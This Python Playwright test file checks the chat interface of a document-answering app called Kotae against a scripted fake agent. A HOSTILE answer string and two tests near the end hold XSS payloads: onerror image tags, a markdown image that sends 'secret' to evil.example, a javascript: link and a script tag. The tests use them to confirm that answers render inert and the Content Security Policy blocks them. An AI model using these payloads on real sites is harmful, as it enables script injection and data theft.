"""The chat page as a person meets it, with an agent that plays given turns slowly enough to be watched."""

from __future__ import annotations

import asyncio
import io
import re
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING, Any

import pytest

pytestmark = pytest.mark.browser

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser, Locator, Page
    from visits import Site, Visit

BOX = "#kotae-question textarea"
ANSWER = ".kotae-answer:not(.kotae-is-draft)"
CHOICES = ("Lake Orrin boat hire › Rowing boats", "Fennick station lockers")
HOSTILE = (
    "It opens <img src=https://evil.example/a.png onerror=\"document.title='pwned'\"> at nine [1].\n\n"
    "![x](https://evil.example/?q=secret) [go](javascript:document.title='pwned') "
    "<script>document.title='pwned'</script>"
)
ROWS = """The café is on the second floor. [2]

| Exhibition | Where | Opening hours | Admission | Guided tours |
|---|---|---|---|---|
| Ships of the northern harbours | First floor | 9:00 to 18:00 | 12 euros | Saturdays at 11:00 |
| Lighthouses | Second floor | 9:00 to 20:00 | 8 euros | Sundays at 14:30 [1] |"""


def make_agent(folder: Path) -> Any:
    from fake_agent import FakeAgent, FakeContext, FakeDocument, Play, answer, passage, settings
    from PIL import Image

    from agent.errors import ModelMissing
    from agent.state import Source
    from ui import strings

    text, pdf = folder / "handbook.md", folder / "plan.pdf"
    text.write_text("The museum opens at nine.", "utf-8")
    pdf.write_bytes(b"%PDF-1.7")
    hours = passage(
        1, "The museum opens at nine. It closes at six.", title="Handbook", heading=("Visiting", "Hours"), url=str(text)
    )
    plan = passage(2, "The café is on the second floor.", title="Floor plan", url=str(pdf), page=2)
    sources = (Source(1, hours, "opens at nine"), Source(2, plan, "second floor"))
    good = answer("The museum **opens at nine** [1]. The café is on the second floor [2].", *sources)
    thanks = answer("You are welcome.", route="direct")
    asked = answer("Which one do you mean?", route="clarify", choices=CHOICES)
    plays = {
        "When does it open?": Play(good, good.text, 0.12),
        "Quick?": Play(good, good.text),
        "Endless?": Play(good, "word " * 3000, 0.05),
        "Thanks": Play(thanks, thanks.text),
        "What does it cost?": Play(answer("I could not find that.", *sources, refused=True, notices=("web_off",))),
        "What is the deposit?": Play(asked),
        CHOICES[1]: Play(good, good.text),
        "Exhibitions?": Play(answer(ROWS, *sources), ROWS),
        "Hostile?": Play(answer(HOSTILE, *sources), HOSTILE, 0.02),
        "No model?": Play(good, error=ModelMissing("x")),
        strings.load("en")("example.what"): Play(good, good.text),
    }
    agent = FakeAgent(settings(folder), plays)  # type: ignore[arg-type]
    agent.library.files = [FakeDocument("d1", str(text)), FakeDocument("d2", str(pdf))]
    agent.library.context_of = {"p1": FakeContext("x\nBefore the passage.\n\n", "\n\nAfter the passage.\nx")}
    picture = io.BytesIO()
    Image.new("RGB", (60, 80), "white").save(picture, "PNG")
    agent.library.picture = picture.getvalue()
    agent.put("old", "An old conversation", [("Quick?", good), ("Thanks", thanks)])
    return agent


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    from visits import Running

    @asynccontextmanager
    async def opened() -> AsyncIterator[Any]:
        yield make_agent(tmp_path_factory.mktemp("library"))

    with Running(opened) as one:
        yield one


def go(page: Page, site: Site, path: str = "/chat/en/") -> None:
    page.goto(site.url + path)
    page.wait_for_selector("#kotae-threads :is(.kotae-threads, .kotae-none)", state="attached")


def ask(page: Page, question: str) -> None:
    page.fill(BOX, question)
    page.press(BOX, "Enter")


def answers(page: Page) -> Locator:
    return page.locator(ANSWER)


def ask_and_wait(page: Page, question: str, count: int = 1) -> None:
    ask(page, question)
    page.wait_for_function("([s, n]) => document.querySelectorAll(s).length === n", arg=[ANSWER, count])
    page.wait_for_selector("#kotae-send", state="visible")


def test_the_draft_is_seen_before_the_checked_answer(page: Page, site: Site) -> None:
    go(page, site)
    ask(page, "When does it open?")
    page.wait_for_selector(".kotae-is-draft")
    assert page.locator(".kotae-is-draft .kotae-label").inner_text() == "Draft, still being checked"
    assert page.locator(".kotae-is-draft a").count() == 0
    assert answers(page).count() == 0
    assert page.input_value(BOX) == ""
    answers(page).wait_for()
    assert page.locator(".kotae-is-draft").count() == 0
    assert page.locator(".kotae-text strong").inner_text() == "opens at nine"
    assert page.locator("#kotae-chat .thought-group .title").inner_text() == "From your documents · 2.4 s"


def test_the_path_taken_unfolds(page: Page, site: Site) -> None:
    go(page, site, "/chat/en/?thread=old")
    title = page.locator("#kotae-chat .thought-group .title").first
    title.wait_for()
    page.wait_for_selector("#kotae-chat .title[aria-expanded='false']")
    title.focus()
    page.keyboard.press("Enter")
    page.wait_for_selector(".kotae-path >> visible=true")
    assert [s.inner_text() for s in page.locator(".kotae-step-name >> visible=true").all()] == [
        "Understood", "Decided", "Searched", "Judged", "Wrote", "Verified",
    ]  # fmt: skip
    assert title.get_attribute("aria-expanded") == "true"


def test_the_marked_words_are_in_view_where_they_stand_in_a_long_list(
    page: Page, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    from fake_agent import FakeContext

    items = f"- {'An item that goes over several lines. ' * 4}\n" * 40
    context = FakeContext(f"Before.\n\n{items}- It ", f"\n{items}")
    monkeypatch.setitem(site.agent.library.context_of, "p1", context)
    go(page, site, "/chat/en/?thread=old")
    width = "document.querySelector('.kotae-panel-body').clientWidth"
    assert page.evaluate(width) > 300, "its lines would break anew while it slides in, and the marked words move"
    page.locator("a.kotae-cite").first.click()
    mark = page.locator("#kotae-panel li mark").first
    mark.wait_for()
    page.wait_for_timeout(500)  # the panel slides in
    box, size = mark.bounding_box(), page.viewport_size
    assert box is not None
    assert size is not None
    assert 0 < box["y"] < size["height"] * 0.6
    assert page.locator(".kotae-panel-head").bounding_box()["y"] == 0, "it stays where it is"  # type: ignore[index]


def test_a_citation_opens_its_passage_with_the_words_marked(page: Page, site: Site) -> None:
    go(page, site, "/chat/en/?thread=old")
    page.locator("a.kotae-cite").first.click()
    mark = page.locator("#kotae-panel mark")
    mark.wait_for()
    assert mark.inner_text() == "opens at nine"
    panel = page.locator("#kotae-panel").inner_text()
    assert "Visiting › Hours" in panel
    assert "Before the passage." in panel
    assert "After the passage." in panel
    assert page.locator("#kotae-panel").get_attribute("inert") is None
    page.keyboard.press("Escape")
    page.wait_for_selector("#kotae-panel[inert]", state="attached")
    assert "kotae-cite" in str(page.evaluate("document.activeElement.className"))


def test_the_page_of_a_pdf_is_shown(page: Page, site: Site) -> None:
    go(page, site, "/chat/en/?thread=old")
    page.locator("a.kotae-source", has_text="Floor plan").first.click()
    picture = page.locator("#kotae-panel .kotae-page img")
    picture.wait_for()
    page.wait_for_function("() => document.querySelector('#kotae-panel .kotae-page img').naturalWidth === 60")
    assert picture.get_attribute("alt") == "Page 2 of Floor plan"


def test_stop(page: Page, site: Site) -> None:
    go(page, site)
    ask(page, "Endless?")
    page.wait_for_selector(".kotae-is-draft")
    page.click("#kotae-stop")
    page.wait_for_selector(".kotae-is-stopped")
    page.wait_for_selector("#kotae-send", state="visible")
    assert site.agent.stopped[-1] == "Endless?"
    assert page.locator(".kotae-is-draft").count() == 0


def test_closing_the_page_stops_the_turn(page: Page, site: Site, seen: Visit) -> None:
    go(page, site)
    before = len(site.agent.stopped)
    ask(page, "Endless?")
    page.wait_for_selector(".kotae-is-draft")
    page.goto("about:blank")
    for _ in range(200):
        if len(site.agent.stopped) > before:
            break
        page.wait_for_timeout(50)
    assert len(site.agent.stopped) == before + 1
    seen.faults[:] = [f for f in seen.faults if "Abort" not in f and "errored out" not in f]  # Gradio's, on leaving


def test_retry(page: Page, site: Site) -> None:
    go(page, site)
    ask_and_wait(page, "When does it open?")
    page.click(".kotae-retry")
    page.wait_for_selector("#kotae-stop", state="visible")
    page.wait_for_selector(".kotae-retry")
    assert answers(page).count() == 1
    assert page.locator(".kotae-question").count() == 1


def test_edit(page: Page, site: Site) -> None:
    go(page, site)
    ask_and_wait(page, "Quick?")
    ask_and_wait(page, "Thanks", 2)
    page.locator(".kotae-question").first.hover()
    page.locator("button.kotae-edit").first.click()
    assert page.input_value(".kotae-editor textarea") == "Quick?"
    page.fill(".kotae-editor textarea", "When does it open?")
    page.keyboard.press("Enter")
    page.wait_for_function("s => document.querySelectorAll(s).length === 1", arg=ANSWER)
    assert page.locator(".kotae-question .kotae-text").all_inner_texts() == ["When does it open?"]


def test_copy(page: Page, site: Site) -> None:
    go(page, site, "/chat/en/?thread=old")
    page.locator(".kotae-answer .kotae-copy").first.click()
    page.wait_for_selector(".kotae-copy.kotae-is-done")
    assert page.evaluate("navigator.clipboard.readText()") == (
        "The museum opens at nine [1]. The café is on the second floor [2].\n\n"
        "[1] Handbook › Visiting › Hours\n[2] Floor plan › p. 2"
    )


def test_a_refused_answer_looks_different(page: Page, site: Site) -> None:
    go(page, site)
    ask_and_wait(page, "What does it cost?")
    assert page.locator(".kotae-is-refused .kotae-label").inner_text() == "No answer that Kotae can stand by"
    assert page.locator(".kotae-is-refused .kotae-head").inner_text() == "The nearest passages"
    assert "Web search is off" in page.locator(".kotae-notice").inner_text()


def test_an_error_is_one_calm_line_and_can_be_retried(page: Page, site: Site) -> None:
    go(page, site)
    ask(page, "No model?")
    page.wait_for_selector(".kotae-is-error")
    assert "kotae models pull" in page.locator(".kotae-is-error").inner_text()
    assert page.locator(".kotae-is-error .kotae-retry").count() == 1


def test_an_example_is_asked_with_one_click(page: Page, site: Site) -> None:
    go(page, site)
    page.locator(".kotae-example").first.click()
    answers(page).wait_for()
    assert page.locator(".kotae-question .kotae-text").inner_text() == "What is Kotae?"


def test_a_choice_is_made_with_one_click_and_after_a_reload(page: Page, site: Site) -> None:
    go(page, site)
    ask_and_wait(page, "What is the deposit?")
    choices = page.locator("button.kotae-choice")
    assert [text.split("\n")[0] for text in choices.all_inner_texts()] == ["Rowing boats", "Fennick station lockers"]
    page.reload()
    choices.nth(1).click()
    page.wait_for_function("([s, n]) => document.querySelectorAll(s).length === n", arg=[ANSWER, 2])
    assert page.locator(".kotae-question .kotae-text").last.inner_text() == CHOICES[1]
    assert choices.count() == 0
    assert page.locator("div.kotae-choice").count() == 2


def test_the_language_follows_the_browser_and_can_be_switched(browser: Browser, site: Site) -> None:
    from visits import visit

    for one in visit(browser, site, locale="ja-JP"):
        go(one.page, site, "/?thread=old")
        assert "/chat/ja/?thread=old" in one.page.url
        assert one.page.get_attribute("html", "lang") == "ja"
        assert one.page.locator(BOX).get_attribute("placeholder") == "文書について質問してください"
        one.page.click("a.kotae-language")
        one.page.wait_for_url("**/chat/en/?thread=old")
        answers(one.page).first.wait_for()
        go(one.page, site, "/")
        assert "/chat/en/" in one.page.url, "the choice is remembered"


def test_dark_light_and_like_the_system(browser: Browser, site: Site) -> None:
    from visits import visit

    for one in visit(browser, site, color_scheme="dark"):
        page = one.page
        go(page, site)
        look = "getComputedStyle(document.body).backgroundColor"
        assert page.evaluate(look) == "rgb(23, 25, 27)"
        page.click(".kotae-do-theme")  # light
        page.wait_for_function(f"() => {look} === 'rgb(250, 249, 245)'")
        page.reload()
        page.wait_for_selector(".kotae-welcome")
        assert page.evaluate(look) == "rgb(250, 249, 245)"
        page.click(".kotae-do-theme")  # dark
        page.wait_for_function(f"() => {look} === 'rgb(23, 25, 27)'")
        assert page.get_attribute(".kotae-do-theme", "title") == "Appearance: dark"


def test_a_reload_keeps_the_thread(page: Page, site: Site) -> None:
    go(page, site)
    ask_and_wait(page, "Quick?")
    page.wait_for_url(re.compile(r"\?thread=t\d+"))
    page.reload()
    answers(page).wait_for()
    assert page.locator(".kotae-question .kotae-text").all_inner_texts() == ["Quick?"]
    ask_and_wait(page, "Thanks", 2)
    assert page.locator(".kotae-question").count() == 2


def test_an_old_thread_opens_goes_on_and_back_leads_back(page: Page, site: Site) -> None:
    go(page, site)
    page.locator("a.kotae-open", has_text="An old conversation").click()
    page.wait_for_function("s => document.querySelectorAll(s).length >= 2", arg=ANSWER)
    assert page.url.endswith("?thread=old")
    assert page.title() == "An old conversation – Kotae"
    page.go_back()
    page.wait_for_selector(".kotae-welcome")
    assert "thread=" not in page.url
    page.go_forward()
    page.wait_for_function("s => document.querySelectorAll(s).length >= 2", arg=ANSWER)
    page.click(".kotae-new")
    page.wait_for_selector(".kotae-welcome")
    assert "thread=" not in page.url


def test_opening_a_thread_ends_the_turn_that_runs(page: Page, site: Site) -> None:
    go(page, site)
    ask(page, "Endless?")
    page.wait_for_selector(".kotae-is-draft")
    page.locator("a.kotae-open", has_text="An old conversation").click()
    page.wait_for_function("s => document.querySelectorAll(s).length >= 2", arg=ANSWER)
    page.wait_for_timeout(400)
    assert page.locator(".kotae-is-draft").count() == 0
    page.wait_for_selector("#kotae-send", state="visible")
    assert site.agent.stopped[-1] == "Endless?"


def test_rename_and_delete(page: Page, site: Site) -> None:
    site.agent.put("doomed", "To be renamed", [])
    go(page, site, "/chat/en/?thread=doomed")
    row = page.locator(".kotae-thread.kotae-is-open")
    row.locator("button.kotae-rename").click()
    page.fill(".kotae-rename-field", "A new <name>")
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.title.startsWith('A new <name>')")
    row.locator("button.kotae-delete").click()
    page.locator("dialog .kotae-plain").click()
    assert page.locator(".kotae-thread", has_text="A new <name>").count() == 1
    row.locator("button.kotae-delete").click()
    page.locator("dialog .kotae-danger").click()
    page.wait_for_function("() => !document.body.innerText.includes('A new <name>')")
    assert "thread=" not in page.url
    threads = asyncio.run_coroutine_threadsafe(site.agent.threads(), site.loop).result(5)
    assert "doomed" not in {t.id for t in threads}


def test_shift_enter_breaks_the_line_and_composition_does_not_send(page: Page, site: Site) -> None:
    go(page, site)
    page.click(BOX)
    page.keyboard.type("Quick")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("?")
    assert page.input_value(BOX) == "Quick\n?"
    page.fill(BOX, "にほん")
    for options in ("isComposing: true", "keyCode: 229"):
        page.eval_on_selector(
            BOX,
            f"""box => {{ for (const kind of ["keydown", "keypress"]) box.dispatchEvent(
                new KeyboardEvent(kind, {{ key: "Enter", bubbles: true, cancelable: true, {options} }})) }}""",
        )
    page.wait_for_timeout(300)
    assert page.locator(".kotae-question").count() == 0
    assert page.input_value(BOX) == "にほん"


def test_a_phone(browser: Browser, site: Site) -> None:
    from visits import visit

    size = {"width": 390, "height": 844}
    for one in visit(browser, site, viewport=size, has_touch=True, is_mobile=True):
        page = one.page
        go(page, site, "/chat/en/?thread=old")
        answers(page).first.wait_for()
        wide = "Math.max(...['html', 'body', '#kotae-main'].map(s => document.querySelector(s).scrollWidth))"
        assert page.evaluate(wide) <= 390
        box = page.locator(BOX).bounding_box()
        assert box is not None
        assert 0 <= box["y"] < box["y"] + box["height"] <= 844
        page.tap("#kotae-head .kotae-do-nav")
        page.locator("#kotae-nav .kotae-new").wait_for()
        page.keyboard.press("Escape")
        page.wait_for_selector("#kotae-nav[inert]", state="attached")
        page.locator("a.kotae-cite").first.tap()
        page.locator("#kotae-panel mark").wait_for()
        page.wait_for_timeout(300)
        frame = page.locator("#kotae-panel").bounding_box()
        assert frame is not None
        assert (frame["x"], frame["width"]) == (0, 390)
        page.tap("#kotae-panel .kotae-do-panel-close")
        page.wait_for_selector("#kotae-panel[inert]", state="attached")
        ask_and_wait(page, "Quick?", page.locator(ANSWER).count() + 1)
        assert page.evaluate(wide) <= 390


def test_a_table_scrolls_inside_the_answer_on_a_phone(browser: Browser, site: Site) -> None:
    from visits import visit

    for width in (390, 1200):
        for one in visit(browser, site, viewport={"width": width, "height": 844}):
            page = one.page
            go(page, site)
            ask_and_wait(page, "Exhibitions?")
            table = page.locator(".kotae-text table")
            assert table.locator("td").nth(0).inner_text() == "Ships of the northern harbours"
            assert page.evaluate("document.documentElement.scrollWidth") <= width
            scrolls = table.evaluate("table => table.scrollWidth > table.clientWidth")
            assert scrolls is (width == 390)
            # no word is broken to make room
            assert table.locator("th").nth(0).evaluate("cell => cell.clientWidth") >= 80
            table.locator("td a.kotae-cite").click()
            page.locator("#kotae-panel mark").wait_for()


def test_a_hostile_answer_is_inert(page: Page, site: Site, seen: Visit) -> None:
    go(page, site)
    ask_and_wait(page, "Hostile?")
    text = page.locator(".kotae-answer .kotae-text")
    assert "<script>" in text.inner_text()
    assert text.locator("img, script").count() == 0
    assert "pwned" not in page.title()
    assert not [url for url in seen.requests if "evil" in url]


def test_the_policy_holds_even_if_something_got_through(page: Page, site: Site, seen: Visit) -> None:
    go(page, site)
    page.evaluate(
        """() => { const box = document.createElement("div");
        box.innerHTML = '<img src="https://evil.example/a.png" onerror="document.title=`pwned`">';
        document.body.append(box); }"""
    )
    page.wait_for_timeout(300)
    assert "pwned" not in page.title()
    assert any("Content Security Policy" in fault for fault in seen.faults)
    seen.faults.clear()
    seen.requests[:] = [url for url in seen.requests if "evil" not in url]  # asked for, and blocked before it left


def test_everything_can_be_reached_with_the_keyboard_and_has_a_name(page: Page, site: Site) -> None:
    go(page, site, "/chat/en/?thread=old")
    answers(page).first.wait_for()
    nameless = page.evaluate(
        """() => [...document.querySelectorAll("#kotae-app :is(button, a[href], input, textarea)")]
        .filter(e => e.checkVisibility() && !e.closest("[aria-hidden=true], [inert]"))
        .filter(e => !(e.innerText.trim() || e.textContent.trim() || e.getAttribute("aria-label") || e.title
            || e.labels?.[0]?.innerText.trim()))
        .map(e => e.outerHTML.slice(0, 120))"""
    )
    assert nameless == []
    roles = page.evaluate("['nav', 'main', 'panel'].map(n => document.querySelector('#kotae-' + n).role)")
    assert roles == ["navigation", "main", "complementary"]
    labels = page.evaluate(
        "[...document.querySelectorAll('#kotae-chat :is([data-testid=user], [data-testid=bot])')].map(e => e.ariaLabel)"
    )
    assert set(labels) == {"You asked", "Kotae answered"}


def test_the_web_switch_reaches_the_agent(page: Page, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Any] = []
    stream = site.agent.stream

    def recording(question: str, thread: str, *, web: Any = None, **more: Any) -> Any:
        asked.append(web)
        return stream(question, thread, web=web, **more)

    monkeypatch.setattr(site.agent, "stream", recording)
    go(page, site)
    ask_and_wait(page, "Quick?")
    page.check("#kotae-web input[value=off]")
    ask_and_wait(page, "Thanks", 2)
    assert asked == ["on", "off"]
    page.reload()
    page.wait_for_selector("#kotae-web input[value=off]:checked", state="attached")
